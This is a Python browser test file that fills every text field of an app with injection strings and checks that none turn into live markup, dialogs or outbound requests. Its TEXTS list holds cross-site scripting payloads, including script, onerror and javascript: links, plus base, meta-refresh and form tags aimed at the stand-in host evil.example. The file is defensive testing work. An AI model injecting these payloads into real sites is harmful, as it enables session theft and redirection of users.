"""R15, C1: whatever people type is shown as text, on every page, to every reader.

Every text field of the company holds something that would run, load or leave. A dialog,
a violation of the content policy, a request that leaves, a script error or an element
made of typed text fails. The control puts one such text into a page as markup.
"""

from __future__ import annotations

import itertools

import pytest

from tests import company
from tests.browser.pages import pages_of
from tests.permissions.world import build_world

pytestmark = pytest.mark.browser

# `data-qz` marks every element that must never come into being.
TEXTS = (
    "<script data-qz>alert(1)</script>",
    '"><img data-qz src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) data-qz='",
    "</textarea><svg data-qz onload=alert(1)>",
    "</title><script data-qz>alert(1)</script>",
    '<a data-qz href="javascript:alert(1)">x</a>',
    "javascript:alert(1)//",
    "<iframe data-qz srcdoc='<script>alert(1)</script>'></iframe>",
    "<style data-qz>*{display:none}</style>",
    "<base data-qz href=//evil.example/>",
    "<meta data-qz http-equiv=refresh content=0;url=//evil.example>",
    "<form data-qz action=//evil.example><button>x",
    "{{7*7}}{% now 'Y' %}${7*7}",
    "<!--<script data-qz>",
    "]]><b data-qz>",
    "&lt;b data-qz&gt;&#x3c;b data-qz&#x3e;",
    "\u202etxt.exe\u2066",
)
SHORTEST = 40
MADE = """() => [
  ...document.querySelectorAll("[data-qz], [onerror], [onload], [onfocus]"),
  ...[...document.links].filter((a) => a.protocol === "javascript:"),
].map((e) => e.outerHTML.slice(0, 120))"""
READERS = ("head", "rep", "admin", "analyst")


@pytest.fixture
def world(live, monkeypatch):
    """Give a world whose every text would run somewhere."""
    texts = itertools.cycle(TEXTS)
    numbers = itertools.count()

    def word(holding, noun, field):
        text = f"{company.START}{next(numbers)}{next(texts)}"
        return text[:SHORTEST] if field == "code" else text

    monkeypatch.setattr(company, "word", word)
    return build_world()


def made_of_text(page):
    return page.evaluate(MADE)


@pytest.mark.parametrize("each", [False, pytest.param(True, marks=pytest.mark.more)])
def test_no_text_runs_anywhere(page_at, world, watch, each):
    dialogs, faults = [], {}
    people = world.cast.everybody()
    opened = {part: page_at(user=people[part]) for part in READERS}
    for page in opened.values():
        page.on(
            "dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss())
        )
    for known in pages_of(world, each=each, readers=READERS):
        page = opened[known.reader]
        page.goto(known.path)
        if made := made_of_text(page):
            faults[f"{known.name} as {known.reader}"] = made
    assert faults == {}
    assert dialogs == []


def test_control_a_text_that_became_markup_is_noticed(page_at, watch):
    page = page_at()
    page.goto("/sign-in")
    page.evaluate("(text) => { document.body.innerHTML = text }", TEXTS[1])
    assert made_of_text(page)
    page.wait_for_timeout(100)
    assert "content security policy" in watch.verdict()
    watch.problems.clear()
